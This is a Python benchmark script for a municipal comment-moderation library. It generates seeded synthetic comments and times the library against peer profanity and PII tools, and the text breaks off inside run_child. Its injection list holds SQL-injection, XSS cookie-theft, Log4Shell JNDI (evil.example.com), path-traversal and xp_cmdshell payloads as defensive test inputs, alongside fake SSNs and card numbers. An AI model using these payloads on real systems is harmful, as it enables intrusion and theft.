"""Throughput and latency of the full Kankakee evaluation, beside the tools a user would chain.

Run from the repository root with the package installed; the peer tools come with the
``benchmark`` extra (``pip install -e ".[benchmark]"``)::

    python benchmarks/throughput.py                    # the full run (a few minutes)
    python benchmarks/throughput.py --quick            # smaller corpora, a smoke run
    python benchmarks/throughput.py --only msp         # one tool; repeat or comma-separate
    python benchmarks/throughput.py --json figures.json  # every figure and the machine
    python benchmarks/throughput.py --profile 15       # cProfile of our evaluation, top 15
    python benchmarks/throughput.py --strict           # exit 1 when a target is not met
    python benchmarks/throughput.py --baseline ../main/src  # also an earlier tree, same run

Corpora (issue 5, section 2). Built once per run from a fixed seed (``--seed``) and shared by
every tool through a temporary file, so all tools read the same texts:

- ``short``: 20,000 comments shaped like a city page. About 75% ordinary civic comments of
  60-300 characters; 15% with profanity (words drawn from the library's shipped list,
  ``detectors/profanity.txt``, some of them disguised: ``f*ck``, ``sh1t``, ``s h i t``); 5%
  personal information (phone numbers, e-mail addresses, SSNs, Luhn-valid card numbers, street
  addresses, an IP address); 3% links; 2% injection strings (SQL, script, template, path).
  The civic text comes from real public comments in ``../shared/data/polis_civic/`` (Polis open
  data, CC BY 4.0; the 60-300 character ones that hold no listed profanity and no link) when
  that folder is present, else from a small template generator in this file
  (``--civic generator`` forces it); the header says which. The labelled data are read at run
  time, never copied into the repository.
- ``long``: 1,000 comments of exactly 5,000 characters, each a run of comments drawn the same
  way.
- one comment of 1,000,000 characters (the long comments joined), for our latency only.

Tools, each measured in a fresh subprocess (so peak RSS and import time belong to that tool
alone): import, then setup, then a warm-up pass over the first 1,000 short comments (cut short
after 10 s), then the timed loops over the short and the long corpus. A timed loop stops after
``--budget`` seconds (default 120 per tool and corpus; ``--budget 0`` times every comment):
better-profanity needs tens of milliseconds per short comment and seconds per long one, so
without a budget it alone would take an hour. A tool stopped early is measured on the first
comments of the corpus (the same texts in the same order for every tool, and the corpus is a
seeded random sequence, so a prefix has the same mix); the table marks it with ``*`` and gives
the count measured. The 1 MB comment is timed up to 3 times, fewer once the budget is spent.

- ``msp``: ``Evaluator(load("kankakee")).evaluate(text)``: all fourteen categories, the
  findings with their clause citations and the actions. Setup is ``load`` plus ``Evaluator``.
- ``msp-baseline`` (only with ``--baseline SRC``): the same, importing the package from the
  source folder ``SRC`` (another checkout's ``src``, say ``main``'s), for before/after figures
  measured side by side in one run.
- ``better-profanity``: ``profanity.contains_profanity(text)`` after one
  ``profanity.load_censor_words()`` (setup).
- ``scrubadub``: one ``scrubadub.Scrubber()`` (setup, default detectors) reused for
  ``.clean(text)``.
- ``presidio-analyzer``: its predefined recognisers for e-mail, phone, US SSN, credit card, URL
  and IP address, built directly (setup) and each called as
  ``.analyze(text, entities, nlp_artifacts=None)``, as ``AnalyzerEngine`` would call them but
  without an NLP engine: no spaCy model is loaded (the child checks that no ``en_core_*`` or
  other model package was imported and reports it). The package's ``__init__`` still imports
  the spaCy *library* (not a model); that cost is part of its import time. ``PhoneRecognizer``
  uses the ``phonenumbers`` package, not spaCy, so it runs without a model too.
- ``alt-profanity-check``: one batch ``predict(texts)`` per corpus (its intended use). Per
  comment figures are the batch time divided by the count; p50/p99 print as ``batch``.

Figures per tool and corpus: comments per second (from the wall time of the whole loop, the
per-comment timers included), p50 and p99 microseconds per comment (``time.perf_counter_ns``
around each call), MB/s (UTF-8 bytes), "hits" (comments the tool flagged or changed, a sanity
check that it did work), import time, setup time, first-call time, and peak RSS attributable
to the tool (``ru_maxrss`` of the child at the end minus ``ru_maxrss`` before the import; the
corpora are already loaded then, read line by line so that loading them leaves no earlier
peak). "ours x" is our throughput divided by the tool's, on the same corpus in the same run.

Our targets, printed with PASS/FAIL (issues 5 and 9): at least 1.5 times scrubadub's throughput
and 500 times better-profanity's on the short corpus; about 35,000 comments/s and p50 under
30 us (issue 5's reading of 1.5 x scrubadub's ~24,000/s on its machines); p99 under 10 times p50;
the long corpus at 5 MB/s or more; the 1 MB comment in under 200 ms (median of its runs); import
plus ``load`` plus ``Evaluator`` under 200 ms; evaluator memory under 50 MB (resident set after
the Evaluator is built minus before the import, from ``/proc/self/statm``). A verdict
with ``errors`` (a detector timed out) is counted and reported, since its time would flatter us.

The machine is shared and noisy: the header shows the load average before and after the run.
The script exits 0 unless ``--strict`` is given. Not part of the test run.
"""

from __future__ import annotations

import argparse
import bisect
import csv
import datetime
import hashlib
import importlib
import json
import math
import os
import platform
import random
import resource
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
DEFAULT_DATA = REPO.parent / "shared" / "data"
SEED = 20190505
RESULT_MARK = "@@throughput-result@@ "

SHORT_COUNT, LONG_COUNT, LONG_CHARS, BIG_CHARS = 20_000, 1_000, 5_000, 1_000_000
QUICK_SHORT_COUNT, QUICK_LONG_COUNT = 2_000, 100
WARMUP_COUNT, QUICK_WARMUP_COUNT = 1_000, 200
BIG_RUNS, QUICK_BIG_RUNS = 3, 1
WARMUP_SECONDS = 10.0
BUDGET_SECONDS, QUICK_BUDGET_SECONDS = 120.0, 20.0

OURS = "msp"
BASELINE = "msp-baseline"
TOOLS: dict[str, str] = {
    OURS: "msp Kankakee (full)",
    BASELINE: "msp baseline",
    "better-profanity": "better-profanity",
    "scrubadub": "scrubadub",
    "presidio-analyzer": "presidio patterns",
    "alt-profanity-check": "alt-profanity-check",
}
BATCH_TOOLS = frozenset({"alt-profanity-check"})
PRESIDIO_RECOGNIZERS = (
    "EmailRecognizer",
    "PhoneRecognizer",
    "UsSsnRecognizer",
    "CreditCardRecognizer",
    "UrlRecognizer",
    "IpRecognizer",
)

# --------------------------------------------------------------------------------------------
# Corpus: a small generator of city-page comments

_STREETS = (
    "Court Street", "Station Street", "Schuyler Avenue", "River Road", "Maple Lane",
    "Indiana Avenue", "Chestnut Street", "Washington Avenue", "Hobbie Avenue", "Kennedy Drive",
    "Brookmont Boulevard", "Harrison Avenue", "Entrance Avenue", "Jeffery Street",
    "Eastridge Drive",
)  # fmt: skip
_PLACES = (
    "the library", "Cobb Park", "the riverfront", "City Hall", "the train depot", "Bird Park",
    "the farmers market", "the community center", "the senior center", "the splash pad",
    "the dog park", "the high school", "the water treatment plant", "the skate park",
)  # fmt: skip
_TOPICS = (
    "the water rates", "the riverfront plan", "the budget", "snow removal", "the library hours",
    "leaf pickup", "the new bike lanes", "the property tax levy", "street lighting",
    "the recycling program", "the downtown parking meters", "the sewer project",
    "the summer concert series", "the police budget", "the road diet", "the TIF district",
    "brush collection", "the stormwater fee", "the new fire station", "the pool renovation",
)  # fmt: skip
_DEPARTMENTS = (
    "Public Works", "the Park District", "the water department", "the police department",
    "the fire department", "the city clerk", "Code Enforcement", "the Planning Commission",
    "the street department", "Economic Development", "the Building Department",
)  # fmt: skip
_OFFICIALS = (
    "the mayor", "the alderman for Ward 3", "the city council", "the council members",
    "the city planner", "the comptroller", "the police chief", "our alderwoman",
)  # fmt: skip
_DAYS = (
    "on Monday", "on Tuesday", "on Wednesday", "on Thursday", "on Friday", "on Saturday",
    "on Sunday", "this weekend", "last night", "yesterday", "this morning",
)  # fmt: skip
_ORDINARY = (
    "Thank you to {dept} for clearing {street} so quickly after the storm.",
    "When is the next public hearing on {topic}? I would like to speak during public comment.",
    "{Topic} keeps going up and nobody at City Hall can explain why.",
    "Is {place} open {day}? The website still shows the old hours.",
    "Great job by {dept} on {topic}. It makes a real difference for our neighborhood.",
    "Potholes on {street} are getting worse every week, please send a crew before someone"
    " loses a tire.",
    "Why did the council vote {votes} on {topic}? I watched the meeting and it was not explained.",
    "Please fix the streetlight at {street} and {street2}, it has been out for {n} weeks.",
    "The crossing guard near {place} is wonderful with the kids, thank you!",
    "Can someone from {dept} explain how {topic} will affect seniors on a fixed income?",
    "I support {topic}, but the timeline seems unrealistic given the budget.",
    "Parking near {place} {day} was impossible. Maybe open the lot behind City Hall?",
    "Our block on {street} has not had leaf pickup yet. Is it still scheduled?",
    "Will {place} be a cooling center during the heat wave this week?",
    "{Official} promised a town hall on {topic} months ago. When is it?",
    "Drove down {street} {day} and the new pavement looks great.",
    "The agenda for the meeting {day} is not posted yet, where can I find it?",
    "Kids were racing cars on {street} again {day}. We need speed bumps.",
    "Love the summer concerts at {place}! More food trucks next year please.",
    "How much of {topic} is paid by the state grant and how much by local taxes?",
    "I have lived on {street} for {n} years and this is the first time the storm drains were"
    " cleaned.",
    "Please consider a crosswalk on {street} near {place}; it is dangerous at school time.",
    "Who do I call about a dead tree in the parkway on {street}?",
    "The {n}% increase in {topic} is too much for families already struggling.",
    "Thanks to {official} for answering questions at the ward meeting {day}.",
    "Any update on when {place} will reopen after the renovation?",
    "Garbage was not collected on {street} {day}. Is there a holiday schedule?",
    "Could the city post the minutes from the last meeting about {topic}?",
    "Nice to see {dept} out at {place} talking with residents.",
    "I disagree with {official} on {topic}, but I appreciate the open discussion.",
    "The survey on {topic} closes {day}; everyone should fill it out.",
    "Wasn't {topic} supposed to be finished last year? What happened?",
    "My neighbors and I would volunteer to clean up {place} if the city provides bags.",
    "Sidewalk on {street} is still blocked by construction, strollers have to use the road.",
)
_FILLERS = (
    "Just my two cents.", "Thanks for listening.", "Hope someone reads this.",
    "We deserve better.", "Keep up the good work!", "Anyone else noticing this?",
    "Please share the details on the city website.", "Appreciate everyone who showed up.",
    "This has been going on for years.", "Taxpayers should get a straight answer.",
)  # fmt: skip
_PROFANE = (
    "This decision on {topic} is {word}, fix it.",
    "What the {word} is going on with {topic}?",
    "{Topic} is a {word} mess again.",
    "Honestly {official} is full of {word} about {topic}.",
    "{Word}! {Street} flooded again and nobody came.",
    "Stop the {word} and fix the potholes on {street}.",
    "Who approved this {word}? {Topic} was fine before.",
    "Another {word} excuse from {dept} about {topic}.",
)
_COMMON_PROFANITY = (
    "shit", "fuck", "damn", "crap", "ass", "bullshit", "asshole", "bitch", "piss", "dick",
    "fucking", "goddamn", "jackass", "dumbass", "bastard", "screw",
)  # fmt: skip
_PERSONAL = (
    "Call me at {phone} about {topic}.",
    "My cell is {phone} if anyone from {dept} wants to talk.",
    "Email me at {email} if you have questions about {street}.",
    "You can reach me at {email}, I have photos of the flooding.",
    "My SSN is {ssn}, can someone fix my water bill?",
    "I paid with card {card} and was charged twice for {topic}.",
    "I live at {address}, come see the flooding yourself.",
    "The noise is coming from {address} every night.",
    "The city website blocked my IP {ip} when I tried to pay the bill.",
)
_LINKS = (
    "More about {topic} here: https://www.{site}/news/{n}-{slug}",
    "See www.{site}/{slug} for the full story on {topic}.",
    "Sign the petition: https://www.change.org/p/{slug}",
    "Video of the meeting: https://www.youtube.com/watch?v={code}",
    "Short version: https://bit.ly/{code}",
    "The agenda is at http://{site}/agendas/2024/{n}.pdf if anyone wants it.",
)
_INJECTIONS = (
    "' OR '1'='1' --",
    "1; DROP TABLE users--",
    "admin'--",
    "' UNION SELECT username, password FROM users--",
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "javascript:alert(document.domain)",
    "{{7*7}}",
    "${jndi:ldap://evil.example.com/a}",
    "../../../../etc/passwd",
    "\"; exec xp_cmdshell('dir') --",
)
_INJECTION_FRAMES = ("{payload}", "Search for {payload} on the city site.", "{payload} {civic}")
_SITES = (
    "daily-journal.com", "citykankakee-il.gov", "facebook.com/groups/kankakeeneighbors",
    "kankakee-news.example.com", "nextdoor.com/city/kankakee--il", "wgnradio.com",
)  # fmt: skip
_FIRST = ("mary", "john", "linda", "james", "pat", "maria", "dave", "karen", "luis", "tanya")
_LAST = ("smith", "johnson", "garcia", "brown", "miller", "davis", "lopez", "wilson", "moore")
_MAIL = ("gmail.com", "yahoo.com", "comcast.net", "outlook.com", "aol.com", "example.org")
_LEET = str.maketrans({"a": "@", "i": "1", "o": "0", "e": "3", "s": "$"})


def _luhn_complete(prefix: str, length: int, rng: random.Random) -> str:
    body = prefix + "".join(str(rng.randrange(10)) for _ in range(length - len(prefix) - 1))
    total = 0
    for position, char in enumerate(reversed(body)):
        digit = int(char)
        if position % 2 == 0:  # doubled once the check digit is appended
            digit = digit * 2 - 9 if digit > 4 else digit * 2
        total += digit
    return body + str((10 - total % 10) % 10)


class CorpusBuilder:
    """Seeded city-page comments: civic text from Polis data or the generator above."""

    def __init__(self, seed: int, profanity: Iterable[str], civic: Sequence[str] = ()) -> None:
        self.rng = random.Random(seed)
        words = sorted(w for w in profanity if w.isalpha() and w.isascii() and len(w) > 2)
        self.common = [w for w in _COMMON_PROFANITY if w in set(words)] or words[:10]
        self.words = words
        self.civic = sorted(civic, key=len)
        self.civic_lengths = [len(text) for text in self.civic]

    # -- pieces
    def _fill(self, template: str, **extra: str) -> str:
        rng = self.rng
        topic, official = rng.choice(_TOPICS), rng.choice(_OFFICIALS)
        street = rng.choice(_STREETS)
        values = {
            "dept": rng.choice(_DEPARTMENTS),
            "street": street,
            "Street": street,
            "street2": rng.choice(_STREETS),
            "place": rng.choice(_PLACES),
            "topic": topic,
            "Topic": topic[0].upper() + topic[1:],
            "official": official,
            "Official": official[0].upper() + official[1:],
            "day": rng.choice(_DAYS),
            "votes": f"{rng.randrange(4, 8)}-{rng.randrange(3, 7)}",
            "n": str(rng.randrange(2, 40)),
            **extra,
        }
        return template.format(**values)

    def _generated(self, low: int, high: int) -> str:
        rng = self.rng
        target = min(high, int(rng.triangular(low, high, low + (high - low) * 0.25)))
        text = self._fill(rng.choice(_ORDINARY))
        while len(text) < target:
            pool = _FILLERS if rng.random() < 0.4 else _ORDINARY
            longer = text + " " + self._fill(rng.choice(pool))
            if len(longer) > min(high, target + 30):
                break
            text = longer
        return text

    def civic_text(self, low: int = 60, high: int = 300) -> str:
        """An ordinary civic comment of ``low``..``high`` characters (Polis when loaded)."""
        if self.civic:
            start = bisect.bisect_left(self.civic_lengths, low)
            end = bisect.bisect_right(self.civic_lengths, high)
            if start < end:
                return self.civic[self.rng.randrange(start, end)]
        return self._generated(low, high)

    def _decorate(self, text: str) -> str:
        roll = self.rng.random()
        if roll < 0.08:
            return text.replace("'", "\u2019")
        if roll < 0.12:
            return text + self.rng.choice((" \U0001f44d", " \U0001f64f", " \u2764\ufe0f"))
        return text

    def _profane_word(self) -> str:
        rng = self.rng
        word = rng.choice(self.common) if rng.random() < 0.7 else rng.choice(self.words)
        roll = rng.random()
        if roll < 0.06:  # masked: f*ck
            return word[0] + "".join("*" if c in "aeiou" else c for c in word[1:])
        if roll < 0.11:
            return word.translate(_LEET)
        if roll < 0.14:
            return " ".join(word)
        return word

    def _personal(self) -> dict[str, str]:
        rng = self.rng
        area = rng.choice(("815", "779", "312", "708", "217"))
        exchange, line = f"{rng.randrange(200, 999)}", f"{rng.randrange(10000):04d}"
        phone = rng.choice(
            (
                f"{area}-{exchange}-{line}",
                f"({area}) {exchange}-{line}",
                f"{area}.{exchange}.{line}",
                f"+1 {area} {exchange} {line}",
                f"{area}{exchange}{line}",
            )
        )
        user = f"{rng.choice(_FIRST)}.{rng.choice(_LAST)}{rng.randrange(100)}"
        area_number = rng.choice((rng.randrange(1, 666), rng.randrange(667, 900)))
        ssn = f"{area_number:03d}-{rng.randrange(1, 100):02d}-{rng.randrange(1, 10000):04d}"
        kind = rng.random()
        if kind < 0.5:
            digits = _luhn_complete("4", 16, rng)
        elif kind < 0.85:
            digits = _luhn_complete(str(rng.randrange(51, 56)), 16, rng)
        else:
            digits = _luhn_complete(rng.choice(("34", "37")), 15, rng)
        separator = rng.choice((" ", "-", ""))
        card = separator.join(digits[i : i + 4] for i in range(0, len(digits), 4))
        address = (
            f"{rng.randrange(100, 2999)} {rng.choice(('N.', 'S.', 'E.', 'W.', ''))}"
            f" {rng.choice(_STREETS)}, Kankakee, IL 6090{rng.randrange(1, 3)}"
        ).replace("  ", " ")
        ip = ".".join(str(rng.randrange(1, 255)) for _ in range(4))
        return {
            "phone": phone,
            "email": f"{user}@{rng.choice(_MAIL)}",
            "ssn": ssn,
            "card": card,
            "address": address,
            "ip": ip,
        }

    def _link(self) -> dict[str, str]:
        rng = self.rng
        letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
        words = ("save", "river", "park", "kankakee", "council", "vote", "water", "budget")
        return {
            "site": rng.choice(_SITES),
            "slug": "-".join(rng.sample(words, 3)),
            "code": "".join(rng.choice(letters) for _ in range(rng.choice((7, 11)))),
        }

    def _with_civic(self, special: str) -> str:
        """``special`` with a civic comment around it when it fits in 300 characters."""
        room = 300 - len(special) - 1
        if room < 60 or self.rng.random() < 0.25:
            return special
        civic = self.civic_text(40, room)
        return f"{civic} {special}" if self.rng.random() < 0.6 else f"{special} {civic}"

    # -- comments
    def comment(self) -> tuple[str, str]:
        """One comment and its kind: ordinary, profanity, personal, link or injection."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.15:
            word = self._profane_word()
            text = self._with_civic(
                self._fill(rng.choice(_PROFANE), word=word, Word=word[0].upper() + word[1:])
            )
            kind = "profanity"
        elif roll < 0.20:
            text = self._with_civic(self._fill(rng.choice(_PERSONAL), **self._personal()))
            kind = "personal"
        elif roll < 0.23:
            text = self._with_civic(self._fill(rng.choice(_LINKS), **self._link()))
            kind = "link"
        elif roll < 0.25:
            payload = rng.choice(_INJECTIONS)
            frame = rng.choice(_INJECTION_FRAMES)
            text = frame.format(payload=payload, civic=self.civic_text(40, 200))
            kind = "injection"
        else:
            text, kind = self.civic_text(), "ordinary"
        return self._decorate(text), kind

    def short(self, count: int) -> tuple[list[str], dict[str, int]]:
        texts: list[str] = []
        kinds: dict[str, int] = {}
        for _ in range(count):
            text, kind = self.comment()
            texts.append(text)
            kinds[kind] = kinds.get(kind, 0) + 1
        return texts, kinds

    def long(self, count: int, chars: int = LONG_CHARS) -> list[str]:
        texts = []
        for _ in range(count):
            parts: list[str] = []
            size = 0
            while size < chars:
                part = self.comment()[0]
                parts.append(part)
                size += len(part) + 2
            texts.append("\n\n".join(parts)[:chars])
        return texts


def big_comment(long: Sequence[str], chars: int = BIG_CHARS) -> str:
    """One comment of ``chars`` characters: the long comments joined, repeated as needed."""
    if not long:
        return ""
    joined = "\n\n".join(long)
    return (joined * (chars // len(joined) + 1))[:chars]


def load_polis(data: Path, profanity: Iterable[str]) -> list[str]:
    """Polis comments of 60-300 characters holding no listed profanity word and no link."""
    folder = data / "polis_civic"
    if not folder.is_dir():
        return []
    banned = {w.casefold() for w in profanity if " " not in w}
    texts: set[str] = set()
    for path in sorted(folder.glob("*/comments.csv")):
        with path.open(newline="", encoding="utf-8-sig") as handle:
            for row in csv.DictReader(handle):
                text = " ".join((row.get("comment-body") or "").split())
                if not 60 <= len(text) <= 300:
                    continue
                lowered = text.casefold()
                if any(marker in lowered for marker in ("http", "www.", "@", ".com")):
                    continue
                tokens = {t.strip(".,!?;:\"'()[]*-") for t in lowered.split()}
                if tokens & banned:
                    continue
                texts.add(text)
    return sorted(texts)


@dataclass
class Corpora:
    short: list[str]
    long: list[str]
    kinds: dict[str, int]
    civic_source: str
    seed: int

    def digest(self) -> str:
        hasher = hashlib.sha256()
        for text in (*self.short, "\x00", *self.long):
            hasher.update(text.encode("utf-8"))
            hasher.update(b"\x1e")
        return hasher.hexdigest()[:16]

    def write(self, path: Path) -> None:
        """One JSON string per line, ``S`` or ``L`` first, so a child reads it line by line."""
        with path.open("w", encoding="utf-8") as handle:
            for tag, texts in (("S", self.short), ("L", self.long)):
                for text in texts:
                    handle.write(tag + json.dumps(text, ensure_ascii=False) + "\n")


def build_corpora(arguments: argparse.Namespace) -> Corpora:
    from municipal_social_policy.detectors.lexicon import read_word_list

    profanity = read_word_list("profanity.txt")
    civic: list[str] = []
    source = "generator (templates in benchmarks/throughput.py)"
    if arguments.civic != "generator":
        civic = load_polis(arguments.data, profanity)
        if civic:
            source = f"polis_civic ({len(civic):,} real comments from {arguments.data})"
        elif arguments.civic == "polis":
            raise SystemExit(f"--civic polis: no usable comments under {arguments.data}")
        else:
            source += f"; {arguments.data / 'polis_civic'} not found"
    builder = CorpusBuilder(arguments.seed, profanity, civic)
    short_count = QUICK_SHORT_COUNT if arguments.quick else SHORT_COUNT
    long_count = QUICK_LONG_COUNT if arguments.quick else LONG_COUNT
    short, kinds = builder.short(short_count)
    long = builder.long(long_count)
    return Corpora(short, long, kinds, source, arguments.seed)


# --------------------------------------------------------------------------------------------
# Child process: one tool, measured alone


def _ru_maxrss() -> int:
    """``ru_maxrss`` of this process, in bytes."""
    scale = 1 if sys.platform == "darwin" else 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * scale


def _peak_rss() -> int:
    """Peak resident set of this process's own memory so far, in bytes.

    ``VmHWM`` from ``/proc/self/status`` on Linux: there, ``ru_maxrss`` of a process started by
    fork and exec begins at its parent's peak (the kernel keeps the pre-exec high-water mark), so
    it would report the parent's corpus and imports instead of the tool. Elsewhere
    ``ru_maxrss``.
    """
    try:
        with open("/proc/self/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        pass
    return _ru_maxrss()


def _current_rss() -> int | None:
    """Resident set of this process now, in bytes (Linux), else None."""
    try:
        with open("/proc/self/statm", encoding="ascii") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except (OSError, ValueError, IndexError):
        return None


def _read_corpora(path: Path) -> tuple[list[str], list[str]]:
    short: list[str] = []
    long: list[str] = []
    with path.open(encoding="utf-8") as handle:
        for line in handle:
            (short if line[0] == "S" else long).append(json.loads(line[1:]))
    return short, long


def _percentile(sorted_values: Sequence[int], fraction: float) -> int:
    """Nearest-rank percentile of an ascending sequence."""
    rank = max(1, math.ceil(fraction * len(sorted_values)))
    return sorted_values[rank - 1]


def _time_each(
    call: Callable[[str], bool], texts: Sequence[str], budget_s: float
) -> dict[str, Any]:
    """Call ``call`` on the texts in order, timing each; ``call`` returns whether it hit.

    Stops after the first text that ends past ``budget_s`` seconds (0: no limit), so a slow
    tool is measured on a prefix of the corpus; ``count`` says how many texts were measured.
    """
    times = [0] * len(texts)
    hits = 0
    clock = time.perf_counter_ns
    budget = int(budget_s * 1e9) if budget_s > 0 else None
    count = 0
    started = clock()
    for text in texts:
        before = clock()
        hit = call(text)
        after = clock()
        times[count] = after - before
        count += 1
        hits += hit
        if budget is not None and after - started > budget:
            break
    wall = clock() - started
    measured = sorted(times[:count])
    return {
        "count": count,
        "corpus_count": len(texts),
        "bytes": sum(len(t.encode("utf-8")) for t in texts[:count]),
        "seconds": wall / 1e9,
        "p50_us": _percentile(measured, 0.50) / 1e3,
        "p99_us": _percentile(measured, 0.99) / 1e3,
        "max_us": measured[-1] / 1e3,
        "mean_us": wall / 1e3 / count,
        "hits": hits,
    }


def _time_batch(call: Callable[[Sequence[str]], int], texts: Sequence[str]) -> dict[str, Any]:
    started = time.perf_counter_ns()
    hits = call(texts)
    wall = time.perf_counter_ns() - started
    return {
        "count": len(texts),
        "corpus_count": len(texts),
        "bytes": sum(len(t.encode("utf-8")) for t in texts),
        "seconds": wall / 1e9,
        "p50_us": None,
        "p99_us": None,
        "max_us": None,
        "mean_us": wall / 1e3 / len(texts),
        "hits": hits,
    }


@dataclass
class Tool:
    """What a child process runs: per-comment ``each`` or whole-list ``batch``."""

    each: Callable[[str], bool] | None = None
    batch: Callable[[Sequence[str]], int] | None = None
    notes: list[str] | None = None


def _setup_msp(extras: dict[str, Any]) -> Tool:
    msp = importlib.import_module("municipal_social_policy")
    before = _current_rss()
    evaluator = msp.Evaluator(msp.load("kankakee"))
    after = _current_rss()
    extras["compile_rss_bytes"] = after - before if after is not None and before else None
    allow = msp.Decision.ALLOW
    errors = [0]
    extras["errors"] = errors
    extras["evaluator"] = evaluator

    def each(text: str) -> bool:
        verdict = evaluator.evaluate(text)
        if verdict.errors:
            errors[0] += 1
        return bool(verdict.decision is not allow)

    return Tool(each=each)


def _setup_better_profanity(extras: dict[str, Any]) -> Tool:
    profanity = importlib.import_module("better_profanity").profanity
    profanity.load_censor_words()
    contains = profanity.contains_profanity

    def each(text: str) -> bool:
        return bool(contains(text))

    return Tool(each=each)


def _setup_scrubadub(extras: dict[str, Any]) -> Tool:
    scrubadub = importlib.import_module("scrubadub")
    scrubber = scrubadub.Scrubber()
    extras["detectors"] = sorted(str(name) for name in scrubber._detectors)
    clean = scrubber.clean

    def each(text: str) -> bool:
        return bool(clean(text) != text)

    return Tool(each=each)


def _setup_presidio(extras: dict[str, Any]) -> Tool:
    recognizers_module = importlib.import_module("presidio_analyzer.predefined_recognizers")
    recognizers = [getattr(recognizers_module, name)() for name in PRESIDIO_RECOGNIZERS]
    calls = [(r.analyze, list(r.supported_entities)) for r in recognizers]
    extras["recognizers"] = {type(r).__name__: list(r.supported_entities) for r in recognizers}

    def each(text: str) -> bool:
        found = False
        for analyze, entities in calls:
            if analyze(text, entities, nlp_artifacts=None):
                found = True
        return found

    return Tool(each=each)


def _setup_profanity_check(extras: dict[str, Any]) -> Tool:
    predict = importlib.import_module("profanity_check").predict

    def batch(texts: Sequence[str]) -> int:
        return int(sum(predict(list(texts))))

    return Tool(batch=batch)


SETUPS: dict[str, tuple[str, Callable[[dict[str, Any]], Tool]]] = {
    OURS: ("municipal_social_policy", _setup_msp),
    BASELINE: ("municipal_social_policy", _setup_msp),
    "better-profanity": ("better_profanity", _setup_better_profanity),
    "scrubadub": ("scrubadub", _setup_scrubadub),
    "presidio-analyzer": ("presidio_analyzer", _setup_presidio),
    "alt-profanity-check": ("profanity_check", _setup_profanity_check),
}


def _model_modules() -> list[str]:
    """Imported modules that are spaCy or transformer *models* (not the libraries)."""
    prefixes = ("en_core_", "en_web_", "en_spacy_", "xx_ent_", "transformers", "torch")
    return sorted(name for name in sys.modules if name.split(".")[0].startswith(prefixes))


def child(
    name: str, corpus_path: Path, warmup: int, big_runs: int, budget_s: float
) -> dict[str, Any]:
    """Measure one tool in this (fresh) process and return its figures."""
    short, long = _read_corpora(corpus_path)
    module_name, setup = SETUPS[name]
    result: dict[str, Any] = {"tool": name, "status": "ok", "budget_s": budget_s}
    peak_before = _peak_rss()
    current_before = _current_rss()
    result["baseline_rss_bytes"] = peak_before
    result["ru_maxrss_start_bytes"] = _ru_maxrss()
    started = time.perf_counter_ns()
    try:
        importlib.import_module(module_name)
    except Exception as error:  # an optional peer may be absent or broken
        return {"tool": name, "status": "missing", "error": f"{type(error).__name__}: {error}"}
    result["import_ms"] = (time.perf_counter_ns() - started) / 1e6
    extras: dict[str, Any] = {}
    started = time.perf_counter_ns()
    tool = setup(extras)
    result["setup_ms"] = (time.perf_counter_ns() - started) / 1e6
    if current_before is not None and (current_after := _current_rss()) is not None:
        result["import_setup_rss_bytes"] = current_after - current_before
    if extras.get("compile_rss_bytes") is not None:
        result["compile_rss_bytes"] = extras["compile_rss_bytes"]
    for key in ("detectors", "recognizers"):
        if key in extras:
            result[key] = extras[key]
    if name == "presidio-analyzer":
        result["spacy_library_imported"] = "spacy" in sys.modules

    # Warm-up: the first ``warmup`` short comments, cut short after WARMUP_SECONDS.
    warm = short[:warmup]
    started = time.perf_counter_ns()
    if tool.each is not None:
        tool.each(warm[0])
        result["first_call_ms"] = (time.perf_counter_ns() - started) / 1e6
        warmed = 1
        for text in warm[1:]:
            if time.perf_counter_ns() - started > WARMUP_SECONDS * 1e9:
                break
            tool.each(text)
            warmed += 1
        result["warmup_count"] = warmed
        result["short"] = _time_each(tool.each, short, budget_s)
        result["long"] = _time_each(tool.each, long, budget_s)
    else:
        assert tool.batch is not None
        tool.batch(warm[:1])
        result["first_call_ms"] = (time.perf_counter_ns() - started) / 1e6
        tool.batch(warm)
        result["warmup_count"] = len(warm)
        result["short"] = _time_batch(tool.batch, short)
        result["long"] = _time_batch(tool.batch, long)
    result["peak_rss_bytes"] = _peak_rss()
    result["attributable_rss_bytes"] = result["peak_rss_bytes"] - peak_before
    if name == "presidio-analyzer":
        result["models_loaded"] = _model_modules()
    if name == OURS:
        errors: list[int] = extras["errors"]
        result["errors_in_timed_runs"] = errors[0]
        text = big_comment(long)
        evaluator = extras["evaluator"]
        times: list[float] = []
        decision, big_errors = "", []
        while len(times) < big_runs and (not times or sum(times) < budget_s * 1e3 or not budget_s):
            started = time.perf_counter_ns()
            verdict = evaluator.evaluate(text)
            times.append((time.perf_counter_ns() - started) / 1e6)
            decision, big_errors = verdict.decision.value, list(verdict.errors)
        result["big"] = {
            "chars": len(text),
            "bytes": len(text.encode("utf-8")),
            "runs_ms": times,
            "median_ms": statistics.median(times),
            "decision": decision,
            "errors": big_errors,
            "peak_rss_bytes": _peak_rss(),
        }
    result["ru_maxrss_end_bytes"] = _ru_maxrss()
    return result


# --------------------------------------------------------------------------------------------
# Parent: run the children, print the table


def run_child(
    name: str,
    corpus_path: Path,
    warmup: int,
    big_runs: int,
    budget_s: float,
    baseline: Path | None = None,
) -> dict[str, Any]:
    command = [
        sys.executable,
        str(Path(__file__).resolve()),
        "--child",
        name,
        "--corpus-file",
        str(corpus_path),
        "--warmup",
        str(warmup),
        "--big-runs",
        str(big_runs),
        "--budget",
        str(budget_s),
    ]
    environment = None
    if name == BASELINE and baseline is not None:
        environment = {**os.environ, "PYTHONPATH": str(baseline.resolve())}
    started = time.perf_counter()
    process = subprocess.run(command, capture_output=True, text=True, check=False, env=environment)
    elapsed = time.perf_counter() - started
    for line in reversed(process.stdout.splitlines()):
        if line.startswith(RESULT_MARK):
            result: dict[str, Any] = json.loads(line[len(RESULT_MARK) :])
            result["process_seconds"] = elapsed
            return result
    tail = (process.stderr or process.stdout).strip().splitlines()[-5:]
    return {
        "tool": name,
